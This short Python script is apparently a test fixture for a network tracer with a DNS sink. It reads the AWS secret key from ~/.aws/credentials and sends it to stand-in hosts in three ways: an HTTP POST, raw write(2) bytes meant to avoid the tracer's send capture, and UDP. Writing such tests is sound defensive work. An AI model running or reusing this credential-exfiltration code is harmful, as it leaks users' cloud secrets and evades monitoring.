# Exfiltration to names the DNS sink answers: the decoy AWS secret key
# goes out (1) as an HTTP POST with urllib (the sink answers 200), (2) as
# raw bytes written with write(2) (not a send the tracer captures) to
# port 9 of another name, (3) in a UDP datagram.  Prints what it got.
import os
import socket
import urllib.request

key = ""
try:
    with open(os.path.expanduser("~/.aws/credentials")) as f:
        for line in f:
            if "aws_secret_access_key" in line:
                key = line.split("=", 1)[1].strip()
except OSError as e:
    print("no credentials:", e)
try:
    req = urllib.request.Request("http://upload.invalid/collect", data=("k=" + key).encode(), method="POST")
    with urllib.request.urlopen(req, timeout=3) as r:
        print("http status", r.status, flush=True)
except Exception as e:
    print("http failed:", e, flush=True)
try:
    ip = socket.gethostbyname("raw.invalid")
    s = socket.create_connection((ip, 9), timeout=3)
    os.write(s.fileno(), ("secret=" + key + "\n").encode())
    s.close()
    print("raw sent", ip, flush=True)
except OSError as e:
    print("raw failed:", e, flush=True)
try:
    ip = socket.gethostbyname("udp.invalid")
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"ping", (ip, 5353))
    print("udp sent", ip, flush=True)
except OSError as e:
    print("udp failed:", e, flush=True)
